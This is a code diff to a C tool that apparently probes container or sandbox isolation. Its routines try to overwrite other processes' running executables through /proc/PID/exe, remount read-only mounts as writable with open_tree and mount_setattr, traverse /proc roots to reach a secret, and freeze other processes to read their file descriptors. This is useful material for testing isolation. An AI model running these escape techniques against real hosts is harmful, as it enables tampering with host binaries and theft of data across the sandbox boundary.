@@ -5,15 +5,13 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/fs.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
-#include <sys/prctl.h>
-#include <sys/ptrace.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
-#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -46,38 +44,63 @@ static int rotate(char **argv)
     return 1;
 }
 
-/* overwrite NAME SECONDS: whoever has a program of that path as executable, or mapped, is to have
- * it written to as soon as it is not busy. Exits 0 if an open for writing succeeded. */
-static int try_write(const char *link, const char *name)
+/* The mount that is in the way is to become writable. */
+static int try_remount(const char *link)
 {
-    char path[4096], self[64];
-    ssize_t n = readlink(link, path, sizeof path - 1);
-    int fd, out;
-    double end;
+    struct {
+        unsigned long long set, clear, propagation, userns;
+    } attr = {.clear = 1 /* MOUNT_ATTR_RDONLY */};
+    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, link, 1 /* OPEN_TREE_CLONE */);
 
-    if (n < 0)
-        return 0;
-    path[n] = '\0';
-    if (!strstr(path, name))
-        return 0;
-    fd = open(link, O_PATH | O_CLOEXEC);
-    if (fd < 0)
-        return 0;
-    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
-    for (end = now() + 2; now() < end;) {
-        out = open(self, O_WRONLY);
-        if (out >= 0 && write(out, "overwritten", 11) == 11) {
-            printf("wrote to %s by %s\n", path, link);
-            return 1;
-        }
-        if (out < 0 && errno != ETXTBSY)
+    if (syscall(SYS_mount_setattr, AT_FDCWD, link, 0, &attr, sizeof attr) == 0)
+        return open(link, O_WRONLY);
+    if (tree >= 0 && syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof attr) == 0) {
+        char path[64];
+        snprintf(path, sizeof path, "/proc/self/fd/%d", tree);
+        return open(path, O_WRONLY);
+    }
+    return -1;
+}
+
+static int write_when_idle(const char *link, const char *self)
+{
+    double end = now() + 2;
+    int fd = -1;
+
+    while (fd < 0 && now() < end) {
+        fd = open(self, O_WRONLY);
+        if (fd < 0 && errno == EROFS)
+            fd = try_remount(link);
+        if (fd < 0 && errno != ETXTBSY)
             break;
     }
-    printf("seen %s by %s: %s\n", path, link, strerror(errno));
+    return fd >= 0 && pwrite(fd, "overwritten", 11, 0) == 11;
+}
+
+static int try_write(const char *link, long size)
+{
+    struct stat st;
+    char self[64];
+    int fd = open(link, O_PATH | O_CLOEXEC);
+
+    if (fd < 0)
+        return 0;
+    if (fstat(fd, &st) < 0 || st.st_size != size) {
+        close(fd);
+        return 0;
+    }
+    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+    if (write_when_idle(link, self)) {
+        printf("wrote by %s\n", link);
+        return 1;
+    }
+    printf("seen by %s: %s\n", link, strerror(errno));
     close(fd);
     return 0;
 }
 
+/* overwrite SIZE SECONDS: a program of that size that somebody runs is to be written to as soon as
+ * it is not busy. Exits 0 if it was. */
 static int overwrite(char **argv)
 {
     double end = now() + atof(argv[1]);
@@ -90,7 +113,7 @@ static int overwrite(char **argv)
             if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
                 continue;
             snprintf(link, sizeof link, "/proc/%.200s/exe", e->d_name);
-            if (try_write(link, argv[0]))
+            if (try_write(link, atol(argv[0])))
                 return 0;
         }
         if (d)
@@ -103,7 +126,7 @@ static int overwrite(char **argv)
 static int reaches(int fds, const char *fd, const char *secret)
 {
     /* A directory of the host's processes leads to their roots. */
-    static const char *const ways[] = {"", "/self/root", "/1/root"};
+    static const char *const ways[] = {"", "/../../../../../../../..", "/self/root", "/1/root"};
     char path[4096];
 
     for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
@@ -132,39 +155,32 @@ static int look_at_fds(const char *pid, const char *secret)
     return hit;
 }
 
-/* join SECRET SECONDS: looks at every process that enters, by its descriptors and by ptrace. */
+/* Who is held cannot be through before we have looked. */
+static int look_at(const char *pid, const char *secret)
+{
+    int hit;
+
+    if (atoi(pid) <= 1 || atoi(pid) == getpid() || kill(atoi(pid), SIGSTOP) < 0)
+        return 0;
+    hit = look_at_fds(pid, secret);
+    kill(atoi(pid), SIGCONT);
+    return hit;
+}
+
+/* join SECRET SECONDS: looks at the descriptors of every process that enters. */
 static int join(char **argv)
 {
     double end = now() + atof(argv[1]);
-    int seen = 0;
 
     while (now() < end) {
         DIR *d = opendir("/proc");
         struct dirent *e;
-        while (d && (e = readdir(d))) {
-            int pid = atoi(e->d_name);
-            if (pid <= 1 || pid == getpid())
-                continue;
-            seen++;
-            if (look_at_fds(e->d_name, argv[0]))
+        while (d && (e = readdir(d)))
+            if (look_at(e->d_name, argv[0]))
                 return 0;
-            if (argv[2] && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
-                char exe[64], path[4096];
-                ssize_t n;
-                snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
-                n = readlink(exe, path, sizeof path - 1);
-                path[n < 0 ? 0 : n] = '\0';
-                if (strstr(path, argv[2])) {
-                    printf("attached to %s\n", path);
-                    return 0;
-                }
-                ptrace(PTRACE_DETACH, pid, 0, 0);
-            }
-        }
         if (d)
             closedir(d);
     }
-    printf("saw %d processes\n", seen);
     return 1;
 }
 
